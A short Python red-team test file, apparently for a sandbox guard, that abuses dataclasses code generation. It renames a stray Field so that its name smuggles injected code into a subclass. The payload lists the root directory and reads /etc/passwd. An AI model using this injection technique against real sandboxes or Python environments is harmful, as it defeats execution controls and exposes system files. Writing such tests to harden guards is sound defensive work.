# Technique (red team): field() in a plain class leaves the Field as a class attribute; renamed, a dataclass subclass pastes the name into code
# expect: policy.call
# guard: compile
from dataclasses import dataclass, field

class B:
    x: int = field(default=0, init=False, repr=False, compare=False)

f = B.x

@dataclass
class C(B):
    x: int

f.name = "x=print(__import__('os').listdir('/'), open('/etc/passwd').read()[:80]), *_a"

try:
    @dataclass
    class D(C):
        pass
except TypeError as e:
    print("after payload:", e)
